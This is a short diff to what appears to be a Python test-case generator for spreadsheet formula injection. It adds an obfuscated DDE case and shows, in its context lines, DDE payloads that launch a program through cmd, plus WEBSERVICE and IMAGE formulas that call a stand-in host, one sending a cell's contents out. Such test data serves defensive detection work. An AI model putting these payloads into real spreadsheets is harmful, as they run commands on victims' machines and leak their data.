@@ -320,6 +320,7 @@ def _excel() -> Iterator[tuple[str, Case]]:
     )
     for name, formula, word in (
         ("DDE", "cmd|'/C calc'!A0", "formula"),
+        ("DDE in pieces", "cmd<x/>|<x>'/C calc'</x>!A0", "formula"),
         ("DDE with a sign", "+cmd|'/C calc'!A0", "formula"),
         ("web service", '_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)', "formula"),
         ("web picture", '_xlfn.IMAGE("http://evil.example/a.png")', "formula"),
